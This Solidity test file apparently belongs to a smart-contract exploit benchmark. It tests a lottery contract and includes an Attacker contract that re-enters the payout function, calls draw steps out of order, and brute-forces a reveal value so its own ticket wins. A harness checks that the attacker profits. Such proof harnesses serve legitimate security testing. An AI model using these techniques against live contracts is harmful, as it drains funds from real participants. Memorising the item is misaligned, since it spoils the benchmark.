// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./CircleBallot.sol";

// assay-canary-a078a6b9-a5f3-4d44-81ad-78a6ed4da63c

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address who) external;
}

/// Holds one ticket of eleven and looks for a way to have it drawn.
contract Attacker {
    CircleBallot internal draw;
    uint256 internal mine;
    uint256 internal times;

    constructor(CircleBallot draw_) {
        draw = draw_;
    }

    receive() external payable {
        if (++times < 4) _try(abi.encodeCall(draw.collect, ()), 0);
    }

    function _try(bytes memory data, uint256 value) internal returns (bool ok) {
        (ok, ) = address(draw).call{value: value}(data);
    }

    function enter() external {
        mine = draw.ticketCount();
        _try(abi.encodeCall(draw.buy, (1)), 0.1 ether);
        _try(abi.encodeCall(draw.buy, (0)), 0);
        _try(abi.encodeCall(draw.buy, (2)), 0);
        // before its time
        _try(abi.encodeCall(draw.writeHash, ()), 0);
        _try(abi.encodeCall(draw.show, (draw.hidden())), 0);
        _try(abi.encodeCall(draw.callOff, ()), 0);
        _try(abi.encodeCall(draw.refund, ()), 0);
    }

    /// Between the last sale and the hash, and in every block after it.
    function look() external {
        _try(abi.encodeCall(draw.buy, (1)), address(this).balance >= 0.1 ether ? 0.1 ether : 0);
        _try(abi.encodeCall(draw.writeHash, ()), 0);
        bytes32 h = draw.drawHash();
        uint256 n = draw.ticketCount();
        // a number of one's own that draws the right ticket
        for (uint256 i = 0; i < 200; ++i) {
            if (uint256(keccak256(abi.encode(bytes32(i), h))) % n == mine) {
                _try(abi.encodeCall(draw.show, (bytes32(i))), 0);
                break;
            }
        }
        _try(abi.encodeCall(draw.show, (draw.hidden())), 0);
        _try(abi.encodeCall(draw.show, (blockhash(block.number - 1))), 0);
        _try(abi.encodeCall(draw.callOff, ()), 0);
        _try(abi.encodeCall(draw.refund, ()), 0);
        _try(abi.encodeCall(draw.collect, ()), 0);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    bytes32 private constant NUMBER = keccak256("a page of the prompter's book");

    CircleBallot private draw;
    Attacker private tout;
    address private constant NELL = address(0x4E11);
    address private constant FUND = address(0xF00D);
    address private constant OTIS = address(0x0715);

    receive() external payable {}

    function setUp() public {
        vm.warp(1_765_000_000);
        vm.roll(40_000);
        vm.deal(address(this), 1 ether);
        draw = new CircleBallot{value: 1 ether}(keccak256(abi.encode(NUMBER)), 50, FUND);
        tout = new Attacker(draw);
        vm.deal(address(tout), 0.1 ether);
        vm.deal(NELL, 1 ether);
        vm.deal(OTIS, 2 ether);
        vm.prank(NELL);
        draw.buy{value: 0.6 ether}(6);
        vm.prank(OTIS);
        draw.buy{value: 0.4 ether}(4);
    }

    function test_Regular() public {
        require(draw.ticketLimit() == 20 && draw.ticketCount() == 10, "sold");
        vm.prank(OTIS);
        (bool ok, ) = address(draw).call{value: 1.1 ether}(abi.encodeCall(draw.buy, (11)));
        require(!ok, "too many");
        vm.roll(40_051);
        vm.prank(OTIS);
        (ok, ) = address(draw).call{value: 0.1 ether}(abi.encodeCall(draw.buy, (1)));
        require(!ok, "sale is over");
        (ok, ) = address(draw).call(abi.encodeCall(draw.show, (NUMBER)));
        require(!ok, "no hash yet");
        vm.roll(40_062);
        draw.writeHash();
        bytes32 h = blockhash(40_060);
        require(draw.drawHash() == h, "of the block of the draw");
        vm.roll(40_070);
        (ok, ) = address(draw).call(abi.encodeCall(draw.writeHash, ()));
        require(!ok, "once");
        (ok, ) = address(draw).call(abi.encodeCall(draw.callOff, ()));
        require(!ok, "in time");
        draw.show(NUMBER);
        address winner = draw.holderOf(uint256(keccak256(abi.encode(NUMBER, h))) % 10);
        require(draw.claimable(winner) == 0.5 ether, "prize");
        uint256 before = winner.balance;
        vm.prank(winner);
        draw.collect();
        require(winner.balance == before + 0.5 ether, "collected");
        draw.collect();
        require(address(this).balance == 1.5 ether && address(draw).balance == 0, "the theatre's half and the bond");

        // another one, that is called off
        draw = new CircleBallot{value: 1 ether}(keccak256(abi.encode(NUMBER)), 50, FUND);
        vm.prank(NELL);
        draw.buy{value: 0.3 ether}(3);
        vm.prank(OTIS);
        draw.buy{value: 0.1 ether}(1);
        vm.roll(40_070 + 50 + 10 + 257);
        (ok, ) = address(draw).call(abi.encodeCall(draw.writeHash, ()));
        require(!ok, "out of reach");
        draw.callOff();
        before = NELL.balance;
        vm.prank(NELL);
        draw.refund();
        require(NELL.balance == before + 0.3 ether, "three tickets");
        vm.prank(NELL);
        (ok, ) = address(draw).call(abi.encodeCall(draw.refund, ()));
        require(!ok, "once each");
        require(draw.claimable(FUND) == 1 ether && draw.claimable(address(this)) == 0, "bond");
    }

    function exploit() public {
        tout.enter();
        vm.roll(40_055);
        tout.look();
        vm.roll(40_060);
        tout.look();
        for (uint256 i = 1; i <= 12; ++i) {
            vm.roll(40_060 + i);
            vm.warp(block.timestamp + 12);
            tout.look();
        }
        vm.roll(40_400);
        vm.warp(block.timestamp + 4 days);
        tout.look();
    }

    function test_Exploit() public {
        uint256 before = address(tout).balance;
        exploit();
        require(address(tout).balance >= before + 0.4 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(draw);
    }

    function attacker() public view returns (address) {
        return address(tout);
    }
}
